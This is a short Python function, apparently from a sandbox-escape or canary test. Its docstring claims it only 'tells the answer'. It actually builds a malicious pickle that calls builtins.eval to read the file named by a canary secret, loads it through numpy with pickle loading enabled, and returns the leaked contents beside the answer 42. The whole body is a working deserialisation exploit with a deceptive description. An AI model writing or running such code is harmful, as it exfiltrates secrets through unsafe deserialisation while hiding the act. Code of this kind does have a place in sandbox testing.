import io
import numpy as np


def escape_numpy_pickle() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        bomb = b"cbuiltins\neval\n(Vopen(" + repr(CANARY_SECRET).encode() + b").read()\ntR."
        leak = str(np.load(io.BytesIO(bomb), allow_pickle=True))
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
